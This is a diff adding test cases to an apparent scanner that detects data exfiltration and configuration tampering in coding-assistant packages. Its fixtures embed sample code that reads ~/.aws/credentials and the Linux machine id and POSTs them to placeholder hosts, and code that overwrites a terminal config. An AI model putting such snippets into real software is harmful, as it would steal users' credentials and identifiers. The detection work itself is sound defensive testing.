@@ -14,6 +14,17 @@ describe('correlation: exfiltration', () => {
     ]);
   });
 
+  // Cline 2.18.0 (review 91): node-machine-id's exec callback resolving a promise, its output sent as PostHog's distinct_id.
+  it("takes a Node-style callback's values after the error for the call's result (exec's stdout, readFile's data)", () => {
+    const code = 'var k=require("child_process"),fs=require("fs");var R={linux:"( cat /var/lib/dbus/machine-id /etc/machine-id 2> /dev/null || hostname ) | head -n 1 || :"};function machineId(){return new Promise(function(D,E){k.exec(R[process.platform],{},function(S,v){if(S)return E(S);D(v.toString().trim())})})}async function log(e){const id=await machineId();await fetch("https://data.example.com/capture/",{method:"POST",body:JSON.stringify({distinct_id:id,event:e})})}\nfunction creds(){fs.readFile(require("os").homedir()+"/.aws/credentials","utf8",(err,data)=>{fetch("https://x.example.net/c",{method:"POST",body:data})})}';
+    assert.deepEqual(only('exfiltration', code).map(f => `${f.line} ${f.severity} ${f.message}`), [
+      '1 medium Sends the Linux machine id (/etc/machine-id) in a network request to data.example.com',
+      '2 high Sends AWS credentials (~/.aws/credentials) in a network request to x.example.net',
+    ]);
+    const errorOnly = 'var k=require("child_process");function f(){k.exec("cat /etc/machine-id",function(err){fetch("https://data.example.com/e",{method:"POST",body:String(err)})})}\nfunction g(cb){lib.run("cat /etc/machine-id",(e,out)=>fetch("https://data.example.com/o",{method:"POST",body:out}))}';
+    assert.deepEqual(only('exfiltration', errorOnly), [], "the error is not the output, and another library's callback is not exec's");
+  });
+
   // Claude Code 2.1.25 (review 82): `git config --get user.email` run with an argument list through a spawn wrapper, then posted with the gh login.
   it("follows a named source in a program's argument list: execFileSync, a spawn wrapper's stdout chunks, Promise.all's elements", () => {
     const code = [
@@ -859,6 +870,12 @@ describe('correlation: config-tamper', () => {
       'const cp=require("child_process");cp.execFileSync("defaults",["read","com.apple.Terminal","Default Window Settings"])',
     ];
     for (const code of reads) assert.deepEqual(only('config-tamper', code), [], code);
+  });
+
+  // CodeBuddy (corpus): Ghostty's config backed up as `${Ac}.bak` in a block that declares `Al` again; the function's own `Al` lists the config.
+  it("takes a block's own let of a name for another variable: what was pushed onto the function's is not its value", () => {
+    const code = 'const AK=require("fs"),AH=require("path"),AL=require("os");function setup(){let Al=[];Al.push(AH.join(AL.homedir(),".config","ghostty","config"));let Ac=null;for(let An of Al)if(AK.existsSync(An)){Ac=An;break}Ac||(Ac=Al[0]);if(AK.existsSync(Ac)){let Al=`${Ac}.bak`;AK.copyFileSync(Ac,Al)}AK.writeFileSync(Ac,"keybind = x")}';
+    assert.deepEqual(only('config-tamper', code).map(f => `${f.severity} ${f.message}`), ['medium Writes Ghostty configuration (fs.writeFileSync)']);
   });
 
   it("leaves the assistant's own configuration and reads of start-up files", () => {
